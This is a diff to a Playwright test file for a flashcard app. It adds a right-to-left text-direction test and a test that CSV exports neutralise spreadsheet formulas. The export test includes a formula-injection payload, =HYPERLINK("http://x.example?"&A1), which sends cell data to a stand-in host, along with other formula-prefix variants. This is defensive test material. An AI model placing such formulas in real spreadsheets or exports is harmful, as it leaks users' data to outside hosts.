@@ -3,8 +3,10 @@
 import assert from 'node:assert/strict';
 import { readFile } from 'node:fs/promises';
 import { describe, it } from 'node:test';
+import type { Locator } from 'playwright-core';
 import { create, lesson } from '../service/service.ts';
-import { button, cards, make, openSignedIn, phase, says, staged } from './stage.ts';
+import { answer } from '../support/model_behaviour.ts';
+import { button, cards, cardsAre, expectAccessible, make, openSignedIn, phase, says, staged, textBox } from './stage.ts';
 
 describe('the cards on the page', () => {
   const stage = staged({ RATE_LIMIT_BURST: '1000/60', MAX_CANDIDATES: '3' });
@@ -53,6 +55,57 @@ describe('the cards on the page', () => {
     assert.equal(await cards(tab).first().locator('.front').textContent(), before);
     await says(tab, '#progress', /^3 cards$/);
   });
+
+  it('are written from right to left where their language is', async () => {
+    const { tab } = await openSignedIn(stage());
+    // The words of ../shared/cases/99.
+    const words = { front: 'מהי בירת צרפת (Paris)?', back: 'פריז (Paris), 2.1 מיליון תושבים.', prompt: 'ما عاصمة فرنسا؟' };
+    nextCards([words, { front: 'What is water?', back: '2.1 מיליון', prompt: '(1) Tests it.' }]);
+    await make(tab, `${words.front} ${lesson()}`);
+    await phase(tab, 'done');
+    const directions = (card: number) =>
+      Promise.all(['.front', '.back', '.prompt', '[name=front]', '[name=back]'].map((part) => directionOf(cards(tab).nth(card).locator(part))));
+    assert.equal(await directionOf(textBox(tab)), 'rtl');
+    for (const card of [0, 1]) await cards(tab).nth(card).getByRole('button', { name: /^Edit/ }).click();
+    assert.deepEqual(await directions(0), ['rtl', 'rtl', 'rtl', 'rtl', 'rtl']);
+    assert.deepEqual(await directions(1), ['ltr', 'rtl', 'ltr', 'ltr', 'rtl']);
+    await expectAccessible(tab, 'cards from right to left');
+
+    await textBox(tab).fill(lesson());
+    assert.equal(await directionOf(textBox(tab)), 'ltr');
+  });
+
+  it('are no formulas in a spreadsheet', async () => {
+    const { tab } = await openSignedIn(stage());
+    const cells: [text: string, cell: string][] = [
+      ['=HYPERLINK("http://x.example?"&A1)', `"'=HYPERLINK(""http://x.example?""&A1)"`],
+      ['+1', `"'+1"`],
+      ['-1', `"'-1"`],
+      ['@SUM(A1)', `"'@SUM(A1)"`],
+      ['"=1"', `"'""=1"""`],
+      ['\u200b=1', `"'\u200b=1"`],
+      ['\uff1d1', `"'\uff1d1"`],
+      ['1 = 1', '"1 = 1"'],
+      ['a\n=1', '"a\n=1"'],
+      ['"quoted"', '"""quoted"""'],
+    ];
+    for (const group of [cells.slice(0, 3), cells.slice(3, 6), cells.slice(6, 9), cells.slice(9)]) {
+      nextCards(group.map(([text]) => ({ front: text, back: text, prompt: 'Tests it.' })));
+      await make(tab, `Lesson ${group[0]?.[0]}. ${lesson()}`);
+      await phase(tab, 'done');
+      await cardsAre(tab, group.length);
+      for (let n = 0; n < group.length; n += 1) await cards(tab).nth(n).getByRole('button', { name: /^Keep/ }).click();
+      const [download] = await Promise.all([tab.waitForEvent('download'), button(tab, 'Download kept cards').click()]);
+      assert.equal(await readFile(await download.path(), 'utf8'), group.map(([, cell]) => `${cell},${cell}\r\n`).join(''));
+    }
+  });
+
+  /** The next answer of the model has these cards. */
+  function nextCards(candidates: { front: string; back: string; prompt: string }[]): void {
+    stage().service.world.openrouter.next(answer({ content: JSON.stringify({ candidates }) }));
+  }
+
+  const directionOf = (element: Locator) => element.evaluate((each) => getComputedStyle(each).direction);
 
   it('are found again among the past sessions, page by page', async () => {
     const { tab, user } = await openSignedIn(stage());
